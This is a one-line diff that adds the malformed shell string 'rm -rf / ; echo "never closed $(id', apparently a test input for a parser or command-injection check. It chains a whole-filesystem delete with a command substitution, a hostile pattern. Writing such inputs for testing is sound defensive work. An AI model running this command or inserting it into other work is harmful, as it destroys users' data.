@@ -1,0 +1,1 @@
+rm -rf / ; echo "never closed $(id
